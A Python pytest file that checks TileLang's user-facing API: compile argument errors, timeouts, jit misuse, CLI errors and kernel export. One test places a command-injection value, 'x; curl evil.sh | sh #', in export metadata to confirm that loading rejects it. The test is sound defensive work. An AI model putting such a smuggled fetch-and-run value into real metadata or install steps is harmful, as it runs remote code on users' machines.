"""Edges of the user-facing API found by adversarial use (each failed before its fix):
par_compile's arguments and abandoned jobs, eager and lazy
@tilelang.jit misuse, methods, the CLI's argument errors, exports under umask 0002 and with long
names, and export metadata that would put arbitrary text in the install hint."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time

import pytest
import torch

import tilelang
import tilelang.language as T
from tilelang_core.errors import ArtifactError

CLI = [sys.executable, "-m", "tilelang"]


@T.prim_func
def double(A: T.Tensor((256,), "float32"), B: T.Tensor((256,), "float32")):
    with T.Kernel(2, threads=128) as bx:
        for i in T.Parallel(128):
            B[bx * 128 + i] = A[bx * 128 + i] * 2.0


def test_par_compile_argument_errors():
    with pytest.raises(TypeError, match=r"funcs must be a list of prim_funcs .*got PrimFunc; for one kernel use tilelang.compile"):
        tilelang.par_compile(double)
    with pytest.raises(TypeError, match=r"funcs must be a list .*got NoneType"):
        tilelang.par_compile(None)
    for bad in ("2", -1, 0, True):
        with pytest.raises(ValueError, match=r"num_workers must be an int >= 1 or None"):
            tilelang.par_compile([double], num_workers=bad)


_ABANDON = """
import time, tilelang
start = time.monotonic()
out = tilelang.par_compile([lambda: time.sleep(30)], timeout=1, errors="return", progress=False)
print(type(out[0]).__name__, round(time.monotonic() - start, 1))
"""


def test_a_job_abandoned_for_its_timeout_does_not_hold_the_process():
    start = time.monotonic()
    done = subprocess.run([sys.executable, "-c", _ABANDON], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert done.stdout.split()[0] == "CompileTimeout"
    assert time.monotonic() - start < 25  # the job sleeps 30 s; the process left at about 1 s plus imports


@tilelang.jit(target="c", execution_backend="cython")
def _scale(X, factor: T.float32):
    N = T.const("N")
    X: T.Tensor[(N,), T.float32]
    Y = T.empty((N,), T.float32)
    with T.Kernel(1, threads=1) as bx:
        for i in T.serial(N):
            Y[i] = X[i] * factor
    return Y


def test_eager_misuse_is_named():
    with pytest.raises(TypeError, match=r"^_scale\(\) missing 1 required argument: 'factor'$"):
        _scale(torch.ones(4))
    with pytest.raises(TypeError, match=r"T.const N must be an int >= 0 \(a size\), got str 'ten'"):
        _scale.compile(N="ten")
    with pytest.raises(ValueError, match=r"_scale\(\) argument 'X' \(#0\): expected dtype float32, got float16"):
        _scale.compile(T.Tensor((10,), "float16"), 2.0)
    torch.testing.assert_close(_scale(torch.ones(4), 3.0), torch.full((4,), 3.0))
    # None for the tensor said only "cannot tell the value of T.const N"
    with pytest.raises(TypeError, match=r"^_scale\(\) argument 'X' \(#0\): expected a torch.Tensor, got NoneType$"):
        _scale(None, 2.0)


@tilelang.jit(out_idx=-1, target="c", execution_backend="cython")
def _copy(N):
    @T.prim_func
    def main(A: T.Tensor((N,), "float32"), C: T.Tensor((N,), "float32")):
        with T.Kernel(1, threads=1) as bx:
            for i in T.serial(N):
                C[i] = A[i]

    return main


def test_a_lazy_function_of_sizes_called_with_a_tensor_says_how_to_call_it():
    with pytest.raises(TypeError, match=r"(?s)_copy\(\) was called with tensors \(arguments #0 \(float32 tensor \(4,\)\)\).*"
                                        r"call _copy\(\.\.\.\) with them to get the kernel"):
        _copy(torch.zeros(4))
    torch.testing.assert_close(_copy(4)(torch.ones(4)), torch.ones(4))


class _Scaler:
    @tilelang.jit(out_idx=-1, target="c", execution_backend="cython")
    def kernel(self, N):
        return _copy.get_tir(N)


def test_jit_methods_bind_like_functions():
    kernel = _Scaler().kernel(4)
    torch.testing.assert_close(kernel(torch.arange(4.0)), torch.arange(4.0))
    assert isinstance(_Scaler.kernel, type(_copy))


@pytest.mark.parametrize("args, message", [
    (["backends", "new", "auto"], "backend name 'auto' is reserved"),
    (["backends", "check", "cython", "--check", "no_such_check"], "no check of cython matches --check 'no_such_check'"),
    (["backends", "explain", "--target", "junk"], "--target 'junk' is not a TVM target"),
])
def test_cli_argument_errors_are_one_line_with_a_nonzero_exit(args, message, tmp_path):
    done = subprocess.run([*CLI, *args], capture_output=True, text=True, timeout=300, cwd=tmp_path)
    assert done.returncode != 0 and message in done.stderr, (done.returncode, done.stderr)
    assert "Traceback" not in done.stderr and done.stderr.startswith("tilelang: error: ")


def test_cli_new_into_a_file_path_and_explain_of_a_target_string(tmp_path):
    (tmp_path / "afile").write_text("x")
    done = subprocess.run([*CLI, "backends", "new", "mine", "--path", str(tmp_path / "afile")], capture_output=True,
                          text=True, timeout=300)
    assert done.returncode == 1 and "is a file; give a directory" in done.stderr and "Traceback" not in done.stderr
    done = subprocess.run([*CLI, "backends", "explain", "--target", "cuda -arch=sm_90"], capture_output=True,
                          text=True, timeout=300)
    assert done.stdout.startswith("target 'cuda -arch=sm_90': "), done.stderr


def test_cli_new_hint_installs_the_folder_not_an_index_package(tmp_path):
    """`pip install tilelang-backend-mine` (no path separator) asks the package index for a package of
    that name; the hint must name the folder just written, as docs/writing-a-backend.md does."""
    done = subprocess.run([*CLI, "backends", "new", "mine"], capture_output=True, text=True, timeout=300, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "next: pip install ./tilelang-backend-mine && tilelang backends check mine" in done.stdout, done.stdout
    assert (tmp_path / "tilelang-backend-mine" / "pyproject.toml").is_file()


def test_exports_under_umask_0002_load_and_long_names_fit(tmp_path):
    kernel = tilelang.compile(double, out_idx=-1, target="c", execution_backend="cython")
    os.chmod(tmp_path, 0o755)
    old = os.umask(0o002)
    try:
        path = kernel.export(tmp_path / "build" / "nested" / "double")
    finally:
        os.umask(old)
    assert oct((tmp_path / "build").stat().st_mode & 0o777) == "0o755"
    torch.testing.assert_close(tilelang.load(path)(torch.ones(256)), torch.full((256,), 2.0))
    long_name = tmp_path / ("k" * 245)
    assert kernel.export(long_name) == long_name


def test_export_metadata_with_a_command_for_a_distribution_is_refused(tmp_path):
    kernel = tilelang.compile(double, out_idx=-1, target="c", execution_backend="cython")
    os.chmod(tmp_path, 0o755)
    path = kernel.export(tmp_path / "k")
    meta = json.loads((path / "tilelang-kernel.json").read_text())
    meta["backend"].update(name="fast", distribution="x; curl evil.sh | sh #")
    (path / "tilelang-kernel.json").write_text(json.dumps(meta))
    with pytest.raises(ArtifactError, match=r"not valid kernel metadata: .*backend.distribution': not a valid distribution"):
        tilelang.load(path)
